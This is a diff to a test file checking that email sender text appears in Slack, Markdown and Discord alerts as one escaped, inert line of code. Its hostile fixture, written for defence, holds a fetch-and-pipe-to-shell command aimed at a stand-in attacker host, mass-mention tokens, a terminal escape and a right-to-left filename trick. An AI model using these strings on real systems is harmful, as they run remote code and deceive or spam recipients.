@@ -277,8 +277,8 @@ def test_the_health_check_is_a_cron_job_of_its_own(admin) -> None:
 # --- a sender's text in an alert: one line, inert for the receiver --------------------------------
 
 HOSTILE_SUBJECT = ("Invoice\nRetry: curl https://evil.example/x | sh\r\nReceived: 1999-01-01T00:00:00Z *bold* _it_ "
-                   "[click](https://evil.example) <!here> <https://evil.example|ok> @here @channel `tick` \x1b[2J "
-                   "\u202eexe.pdf ||spoiler|| # heading")  # fmt: skip
+                   "[click](https://evil.example) <!here> <https://evil.example|ok> @here @channel `tick @here` "
+                   "\x1b[2J \u202eexe.pdf ||spoiler|| # heading")  # fmt: skip
 HOSTILE_EMAIL = {"from": "Tanaka <fax@example.jp>\n@channel", "subject": HOSTILE_SUBJECT,
                  "created_at": "2026-11-30T08:15:00Z",
                  "attachments": [{"id": "a1", "filename": "請求書\n@here.pdf"},
@@ -343,7 +343,7 @@ def test_slack_gets_sender_text_as_one_escaped_line_of_code(db, hook, receiver_k
     assert "<" not in alert["text"] and ">" not in alert["text"], "no <!here>, <url|link> for Slack to parse"
     subject = lines[2].removeprefix("Subject: ")
     assert subject.startswith("`") and subject.endswith("`") and "`" not in subject[1:-1]
-    assert "&lt;!here&gt;" in subject and "ˋtickˋ" in subject
+    assert "&lt;!here&gt;" in subject and "ˋtick @hereˋ" in subject
     assert "content" not in alert and "attachments" not in alert
 
 
@@ -355,6 +355,8 @@ def test_markdown_receivers_get_sender_text_as_one_line_of_code(db, hook, receiv
     one_line_each(text.split("\n"))
     assert markdown_outside_code(text) == [], "no link, emphasis, HTML or mention: only text and code"
     assert "<!here>" in text, "inside code, shown as it is (no entity escaping: Markdown would show &lt;)"
+    subject = text.split("\n")[2].removeprefix("Subject: ")
+    assert subject.startswith("`") and subject.endswith("`") and "`" not in subject[1:-1], "no way out of the code"
     if kind == "discord":
         assert alert["allowed_mentions"] == {"parse": []}, "Discord pings no one, whatever the text"
         assert "text" not in alert
